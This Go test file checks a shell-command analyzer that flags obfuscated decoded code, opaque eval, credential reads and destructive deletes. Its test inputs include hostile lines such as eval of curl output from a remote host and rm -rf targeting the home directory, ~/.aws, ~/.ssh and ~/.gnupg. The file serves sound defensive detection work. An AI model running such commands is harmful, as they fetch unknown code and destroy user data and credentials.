package shell

import "testing"

// TestDecodedCode: code that a decoder produced on the line and a shell or
// an interpreter runs is obfuscation whatever it does; decoded data that
// nothing runs is not.
func TestDecodedCode(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"echo bHMK | base64 -d | sh", true},
		{"echo cHJpbnQoMSk= | base64 -d | python3", true},
		{"echo cHJpbnQoMSk= | base64 --decode | bash -s", true},
		{"echo aGVsbG8= | base64 -d > out.txt", false},
		{"echo 'print(1)' | python3", false},
		{"echo bHMK | base64 -d | wc -c", false},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		got := false
		for _, c := range an.Commands {
			for _, o := range c.CodeObfuscated {
				if o == "code decoded on the line" {
					got = true
				}
			}
		}
		if got != tc.want {
			t.Errorf("%q: decoded code %v, want %v", tc.line, got, tc.want)
		}
	}
}

// TestQuotedPatterns: an unknown tool's quoted pattern or template is not a
// file it reads; a path pattern and an unquoted glob still are.
func TestQuotedPatterns(t *testing.T) {
	for _, tc := range []struct {
		line  string
		reads bool
	}{
		{`./gradlew test --tests "com.example.*Service*"`, false},
		{`frobnicate --format '{{.State.Health.Status}}'`, false},
		{`frobnicate 'secrets/*.pem'`, true},
		{`frobnicate config/*.pem`, true},
		{`frobnicate notes.txt`, true},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		if got := len(an.Commands[0].Reads) > 0; got != tc.reads {
			t.Errorf("%q: reads %v, want %v", tc.line, an.Commands[0].Reads, tc.reads)
		}
	}
}

// TestSSHKeygen: printing a key's public half or fingerprint is not
// reading the secret; creating a key writes it.
func TestSSHKeygen(t *testing.T) {
	for _, tc := range []struct {
		line          string
		reads, writes int
	}{
		{"ssh-keygen -y -f ~/.ssh/id_ed25519", 0, 0},
		{"ssh-keygen -lf ~/.ssh/id_rsa", 0, 0},
		{"ssh-keygen -t ed25519 -f ~/.ssh/id_new", 0, 1},
		{"ssh-keygen -p -f ~/.ssh/id_rsa", 0, 1},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatal(err)
		}
		c := an.Commands[0]
		if len(c.Reads) != tc.reads || len(c.Writes) != tc.writes {
			t.Errorf("%q: reads %v writes %v", tc.line, c.Reads, c.Writes)
		}
	}
}

// TestSetupEval: eval of an installed tool's own setup output runs what
// the tool prints; any other eval of a substitution is opaque.
func TestSetupEval(t *testing.T) {
	for _, tc := range []struct {
		line   string
		opaque bool
	}{
		{`eval "$(ssh-agent -s)"`, false},
		{`eval "$(pyenv init -)"`, false},
		{`eval $(direnv export bash)`, false},
		{`eval "$(curl -s https://x.example.net/s)"`, true},
		{`eval "$(ssh-agent -s; cat x)"`, true},
		{`eval "$X"`, true},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if got := an.Commands[0].Opaque != ""; got != tc.opaque {
			t.Errorf("%q: opaque %q", tc.line, an.Commands[0].Opaque)
		}
	}
}

// TestLiteralTildes: bash expands only an unquoted leading tilde.
func TestLiteralTildes(t *testing.T) {
	for line, want := range map[string]string{
		"rm -rf '~'":      "./~",
		`rm -rf "~/x"`:    "./~/x",
		"rm -rf ~":        "~",
		`rm -rf ~/"my d"`: "~/my d",
		`rm -rf \~`:       "./~",
	} {
		an, err := Analyze(line, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if d := an.Commands[0].Deletes; len(d) != 1 || d[0] != want {
			t.Errorf("%q deletes %v, want %q", line, d, want)
		}
	}
}

// TestOutputOptions: an unknown tool's output options name what it writes.
func TestOutputOptions(t *testing.T) {
	for line, want := range map[string]string{
		"protoc --go_out=/home/dev/gen api.proto": "/home/dev/gen",
		"zola build -o /home/dev/www --force":     "/home/dev/www",
		"frob --out-dir ../site":                  "../site",
		"frob --output=dist/x.json":               "dist/x.json",
	} {
		an, err := Analyze(line, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if w := an.Commands[0].Writes; len(w) != 1 || w[0] != want {
			t.Errorf("%q writes %v, want %q", line, w, want)
		}
	}
}

// TestPositionalParameters: sh -c's words after the script are its $0, $1…
func TestPositionalParameters(t *testing.T) {
	for _, tc := range []struct{ line, want string }{
		{`bash -c 'rm -rf "$1"' _ ~`, "rm -rf ~"},
		{`sh -c 'rm -rf "$@"' sh ~/.aws ~/.ssh`, "rm -rf ~/.aws ~/.ssh"},
		{`sh -c 'rm -rf "$0"' ~/.gnupg`, "rm -rf ~/.gnupg"},
		{`sh -c 'rm -rf "${1}"/x' _ 'a b'`, "rm -rf a b/x"},
		{`sh -c 'echo \$1' _ y`, "echo $1"},
		{`sh -c 'rm -rf "$1"' _ "$X"`, "rm -rf $1"},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if got := an.Commands[len(an.Commands)-1].Text; got != tc.want {
			t.Errorf("%q: %q, want %q", tc.line, got, tc.want)
		}
	}
}
